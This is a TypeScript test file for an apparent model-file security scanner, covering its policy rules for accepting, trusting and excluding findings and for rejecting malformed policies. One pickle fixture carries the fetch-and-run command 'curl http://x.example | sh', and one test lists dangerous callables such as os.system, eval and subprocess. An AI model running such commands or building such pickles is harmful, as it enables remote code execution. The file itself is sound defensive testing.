import { execFileSync } from 'child_process';
import { createHash } from 'crypto';
import { join, resolve } from 'path';
import { EVIL, Program, STRANGE, UNKNOWN } from './program';

const program = new Program();
afterAll(() => program.remove());

const sha256 = (bytes: string): string => createHash('sha256').update(bytes).digest('hex');
const accept = (expires: string, rule = 'pickle-dangerous-call'): string =>
  `[[accepted]]\nsha256 = "${sha256(EVIL)}"\nrule = "${rule}"\nreason = "Looked at by hand"\nexpires = ${expires}\n`;
const TRUST = '[[trusted]]\nmodule = "my_lab.models"\noperator = "Encoder"\nreason = "Ours"\n';

program.file('work/models/evil.pkl', EVIL);
program.file('work/models/unknown.pkl', UNKNOWN);
const policy = (name: string, text: string): string => program.file(`policies/${name}.toml`, text);

describe('a policy', () => {
  it('sets the level that fails; the command line has the last word', () => {
    const low = policy('low', 'fail-on = "low"\n');
    expect(program.run(['work/models/unknown.pkl']).status).toBe(0);
    expect(program.run(['work/models/unknown.pkl', '--policy', low]).status).toBe(1);
    expect(program.run(['work/models/unknown.pkl', '--policy', low, '--fail-on', 'high']).status).toBe(0);
  });

  it('accepts a finding of this very file until its day, and shows it with the reason', () => {
    const named = policy('accept', accept('2999-12-31'));
    const { status, report } = program.json(['work/models', '--policy', named]);
    expect(status).toBe(0);
    expect(report.summary).toMatchObject({ total_issues: 1, total_accepted: 1, policy: named, verdict: 'review' });
    expect(report.accepted).toMatchObject([
      { operator: 'system', waiver: { kind: 'accepted', reason: 'Looked at by hand', expires: '2999-12-31' } }
    ]);
    const { stdout } = program.run(['work/models/evil.pkl', '--policy', named]);
    expect(stdout).toContain('--- Accepted by the policy ---');
    expect(stdout).toContain('  - Accepted because: Looked at by hand');
    expect(stdout).not.toContain('No issues found');
  });

  it('counts an accepted finding again after its day', () => {
    const { status, report } = program.json(['work/models/evil.pkl', '--policy', policy('old', accept('2001-01-01'))]);
    expect(status).toBe(1);
    expect(report.issues).toMatchObject([{ operator: 'system', expired: '2001-01-01' }]);
    expect(program.run(['work/models/evil.pkl', '--policy', policy('old', accept('"2001-01-01"'))]).stdout).toContain(
      'it was accepted until 2001-01-01 and counts again'
    );
  });

  it('accepts nothing of another file, and no other rule', () => {
    const changed = program.file('work/changed.pkl', `${EVIL}\n`);
    expect(program.run([changed, '--policy', policy('accept', accept('2999-12-31'))]).status).toBe(1);
    const other = policy('other', accept('2999-12-31', 'pickle-unknown-call'));
    expect(program.run(['work/models/evil.pkl', '--policy', other]).status).toBe(1);
  });

  it('trusts exactly the callable that it names', () => {
    const named = policy('trust', TRUST);
    const { status, report } = program.json(['work/models/unknown.pkl', '--policy', named, '--fail-on', 'low']);
    expect(status).toBe(0);
    expect(report.accepted).toMatchObject([{ operator: 'Encoder', waiver: { kind: 'trusted', reason: 'Ours' } }]);
    const near = program.file('work/near.pkl', UNKNOWN.replace('Encoder', 'Encoder2'));
    expect(program.run([near, '--policy', named, '--fail-on', 'low']).status).toBe(1);
  });

  it('may begin with a byte order mark, and end its lines as Windows does', () => {
    const named = policy('windows', '\ufefffail-on = "low"\r\n');
    expect(program.run(['work/models/unknown.pkl', '--policy', named]).status).toBe(1);
  });

  it('excludes by glob, and lists what it excluded in every report', () => {
    const named = policy('exclude', 'exclude = ["ev*.pkl", "strange/**"]\n');
    program.file('work/strange/x.bin', STRANGE);
    const { status, report } = program.json(['work', '--policy', named]);
    expect(status).toBe(1);
    expect(report.summary.skipped.skipped_files).toMatchObject([
      { category: 'EXCLUDED', source: 'models/evil.pkl', glob: 'ev*.pkl' },
      { category: 'EXCLUDED', source: 'strange/x.bin', glob: 'strange/**' }
    ]);
    const args = ['work', '--policy', named];
    expect(program.run([...args, '--show-skipped']).stdout).toContain('models/evil.pkl: excluded (ev*.pkl)');
    for (const format of ['sarif', 'cyclonedx', 'html', 'ndjson']) {
      expect(program.run([...args, '-r', format]).stdout).toContain('evil.pkl');
    }
  });
});

describe('trust', () => {
  it('is never more than the rules allow: what is dangerous with any argument is not waived', () => {
    const lambda = resolve('examples/totally_safe_model.keras');
    const keras = TRUST.replace('my_lab.models', 'Keras').replace('Encoder', 'Lambda');
    const { report } = program.json([lambda, '--policy', policy('lambda', keras)]);
    expect(report.issues.filter(({ rule }) => rule === 'keras-lambda')).not.toEqual([]);
    expect(report.accepted).toEqual([]);
    expect(report.summary.policy_unused).toMatchObject([{ what: 'Keras.Lambda', line: 1, why: 'powerless' }]);
  });

  it.each([
    ['my_lab.*', '*', true],
    ['my_lab.*', 'Encoder', true],
    ['my_lab.models', '*', true],
    ['my_lab.models.*', '*', true],
    ['my_la.*', '*', false],
    ['my_lab.models.deep.*', '*', false],
    ['my_lab', '*', false],
    ['my_lab.*', 'Decoder', false]
  ])('of %s and %s', (module, operator, trusted) => {
    const text = TRUST.replace('my_lab.models', module).replace('Encoder', operator);
    const { report } = program.json(['work/models/unknown.pkl', '--policy', policy('wide', text)]);
    expect(report.accepted).toHaveLength(trusted ? 1 : 0);
  });

  it('of a wildcard ends where arguments are suspicious; a callable that is named is trusted with any', () => {
    const file = program.file('work/command.pkl', "cmy_lab.models\nEncoder\n(S'curl http://x.example | sh'\ntR.");
    const wide = policy('wide', TRUST.replace('Encoder', '*'));
    expect(program.json([file, '--policy', wide]).report.accepted).toEqual([]);
    expect(program.json([file, '--policy', policy('exact', TRUST)]).report.accepted).toHaveLength(1);
  });
});

describe('entries that make no difference', () => {
  const text = `exclude = ["*.old"]\n${TRUST}${TRUST.replace('Encoder', 'Decoder')}${accept('2001-01-01')}${accept('2999-12-31', 'pickle-unknown-call')}`;
  const named = policy('unused', text);

  it('are told in JSON, and are no errors', () => {
    const { status, report } = program.json(['work/models/unknown.pkl', '--policy', named]);
    expect(status).toBe(0);
    expect(report.summary.policy_unused).toMatchObject([
      { kind: 'exclude', what: '*.old', line: 1, why: 'unmatched' },
      { kind: 'trusted', what: 'my_lab.models.Decoder', line: 6, why: 'unmatched' },
      { kind: 'accepted', what: 'pickle-dangerous-call', line: 10, why: 'expired', expires: '2001-01-01' },
      { kind: 'accepted', what: 'pickle-unknown-call', line: 15, why: 'unmatched' }
    ]);
  });

  it('are told on the console and in HTML', () => {
    for (const format of ['console', 'html']) {
      const { stdout } = program.run(['work/models/unknown.pkl', '--policy', named, '-r', format]);
      expect(stdout).toContain('Line 6, trusted my_lab.models.Decoder: it matches nothing in this scan.');
      expect(stdout).toContain('Line 10, accepted pickle-dangerous-call: it ran out on 2001-01-01');
    }
  });

  it('are those that were used by no part of a split scan', () => {
    const parts = [1, 2].map(part => `unused${part}.json`);
    parts.forEach((part, index) =>
      program.run(['work/models', '--policy', named, '--shard', `${index + 1}/2`, '-r', 'json', '-o', part, '-q'])
    );
    const { report } = program.json(['merge', ...parts]);
    expect(report.summary.policy_unused?.map(({ line }) => line)).toEqual([1, 6, 10, 15]);
  });
});

describe('a malformed policy', () => {
  it.each([
    ['no TOML', 'fail-on = "low"\nexclude = [\n', 3, /./],
    ['an unknown setting', '\nfail_on = "low"\n', 2, /There is no setting fail_on/],
    ['an unknown level', '# ours\nfail-on = "severe"\n', 2, /must be one of low/],
    ['a glob that is no text', 'exclude = [1]\n', 1, /list of patterns/],
    ['a table instead of an array', '[trusted]\nmodule = "a"\n', 1, /\[\[trusted\]\]/],
    ['a callable without a reason', `${TRUST}\n[[trusted]]\nmodule = "a"\noperator = "b"\n`, 6, /lacks reason/],
    ['an empty reason', TRUST.replace('"Ours"', '" "'), 4, /reason must be text/],
    ['a setting of another table', `${TRUST}expires = 2999-12-31\n`, 5, /There is no setting expires/],
    ['a digest that is none', accept('2999-12-31').replace(/"[0-9a-f]{64}"/, '"abc"'), 2, /64 hexadecimal/],
    [
      'a day that the calendar lacks',
      `${accept('2999-12-31')}\n${accept('"2999-02-30"')}`,
      11,
      /expires must be a day/
    ],
    ['no day', accept('2999-12-31').replace(/expires.*\n/, ''), 1, /lacks expires/],
    ['a pattern without end', `exclude = ["${'[a-'.repeat(300_000)}"]\n`, 1, /exclude is longer than 2000 characters/],
    ['a rule without end', accept('2999-12-31', 'x'.repeat(900_000)), 3, /rule is longer than/],
    ['a key that stands twice', 'fail-on = "low"\nfail-on = "high"\n', 2, /./],
    ['a range that runs backwards', '\nexclude = ["[z-a].pkl"]\n', 2, /runs backwards/],
    [
      'a rule that there is not',
      accept('2999-12-31', 'pickle-dangerous-cal'),
      3,
      /Did you mean pickle-dangerous-call\?/
    ],
    ['a rule with a wildcard', accept('2999-12-31', 'pickle-*'), 3, /There is no rule pickle-\*/],
    ['a module of any name', TRUST.replace('my_lab.models', '*'), 2, /as package\.\*/],
    ['a wildcard within a module', TRUST.replace('my_lab.models', 'my_lab.*.models'), 2, /as package\.\*/],
    ['a wildcard within an operator', TRUST.replace('Encoder', 'Enc*'), 3, /An operator is written in full/],
    ['all of a part of Python', TRUST.replace('my_lab.models', 'collections.*'), 2, /parts of Python itself/],
    [
      'everything of a module of Python',
      TRUST.replace('my_lab.models', 'os').replace('Encoder', '*'),
      2,
      /Python itself/
    ],
    ['a package of which parts are dangerous', TRUST.replace('my_lab.models', 'omegaconf.*'), 2, /Parts of omegaconf/],
    ['tables in tables without end', `exclude = ${'['.repeat(100_000)}\n`, 1, /./]
  ])('%s', (_, text, line, message) => {
    const { status, stdout, stderr } = program.run(['work/models/evil.pkl', '--policy', policy('bad', text)]);
    expect({ status, stdout }).toEqual({ status: 4, stdout: '' });
    expect(stderr).toContain(`is wrong in line ${line}:`);
    expect(stderr).toMatch(message);
  });

  it.each([
    ['os', 'system'],
    ['posix', 'system'],
    ['__builtin__', 'eval'],
    ['builtins', 'getattr'],
    ['subprocess', 'anything'],
    ['pickle', 'loads'],
    ['torch.serialization', 'os.system'],
    ['keras.models', 'load_model']
  ])('trusts %s.%s, which is dangerous with any argument', (module, operator) => {
    const text = `\n${TRUST.replace('my_lab.models', module).replace('Encoder', operator)}`;
    const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', policy('danger', text)]);
    expect(status).toBe(4);
    expect(stderr).toContain('is wrong in line 3:');
    expect(stderr).toContain('What is known to be dangerous cannot be trusted everywhere');
  });

  it.each([
    ['UTF-16', Buffer.from('\ufefffail-on = "low"\n', 'utf16le')],
    ['no text at all', Buffer.of(0xff, 0xfe, 0, 1)]
  ])('is %s', (_, bytes) => {
    const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', program.file('odd.toml', bytes)]);
    expect(status).toBe(4);
    expect(stderr).toContain('it is no text in UTF-8');
  });

  it('is too large, a folder, a pipe or a device: nothing is waited for', () => {
    execFileSync('mkfifo', [join(program.folder, 'pipe.toml')]);
    const large = program.file('large.toml', '#'.repeat(2 ** 20 + 1));
    for (const [path, message] of [
      [large, 'larger than 1 MiB'],
      ['work', 'no regular file'],
      ['pipe.toml', 'no regular file'],
      ['/dev/zero', 'no regular file']
    ]) {
      const { status, stderr } = program.run(['work/models/evil.pkl', '--policy', path]);
      expect(status).toBe(4);
      expect(stderr).toContain(message);
    }
  });

  it('quotes what is in it as text', () => {
    const { stderr } = program.run(['work', '--policy', policy('terminal', '"\\u001b[31m" = 1\n')]);
    expect(stderr).toContain('There is no setting \\x1b[31m');
    expect(stderr).not.toContain('\x1b');
  });
});
